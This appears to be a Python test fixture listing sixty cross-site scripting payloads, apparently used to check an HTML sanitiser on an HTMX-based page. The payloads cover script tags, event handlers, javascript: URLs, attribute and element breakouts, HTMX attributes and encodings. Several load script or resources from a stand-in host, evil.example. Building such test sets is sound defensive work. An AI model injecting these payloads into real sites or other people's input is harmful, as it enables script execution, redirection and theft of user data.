"""Sixty texts that would run as script, or leave their place, in a page that trusts them.

Written along the families that public cheat sheets list: tags, handlers, addresses, attributes that
end early, elements that end early, HTMX's own attributes, templates, encodings, resources.
"""

PAYLOADS = [
    # tags that run
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/x>alert(1)</script/x>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>/*\n*/alert(1)</script\n>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href=data:,alert(1) />",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    # handlers
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)' //",
    "<IMG SRC=/x ONERROR=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<div onpointerover=alert(1) style=position:fixed;inset:0>x</div>",
    "<style onload=alert(1)></style>",
    "<iframe onload=alert(1)></iframe>",
    "<object data=x onerror=alert(1)></object>",
    # addresses
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//https://ok.example",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "<a href=javascript:alert(1)>click</a>",
    "<iframe src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    # out of an attribute
    "\" onmouseover=alert(1) x=\"",
    "' onfocus=alert(1) autofocus tabindex=1 x='",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "x\" autofocus onfocus=\"alert(1)",
    "` onerror=alert(1) `",
    "\"/><svg onload=alert(1)>",
    # out of an element
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</bdi></main></body><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<img src=\"--><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    # HTMX's own
    "<div hx-get=/new hx-trigger=load></div>",
    "\" hx-on:load=\"alert(1)\" data-hx-on:click=\"alert(1)",
    "<div hx-on::load='alert(1)' hx-trigger='every 1s[alert(1)]' hx-get=/></div>",
    "<template hx-swap-oob=true id=main>gone</template>",
    # templates and encodings
    "{{ 7 * 7 }}{% set x = 1 %}${alert(1)}<%= 7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>\u2028\ufeff+ADw-script+AD4-",
    # resources
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example/x.css';*{display:none}</style>",  # noqa: E501
    "<img src=//evil.example/pixel.gif><form><input name=action value=discard form=reply></form>",
]  # fmt: skip
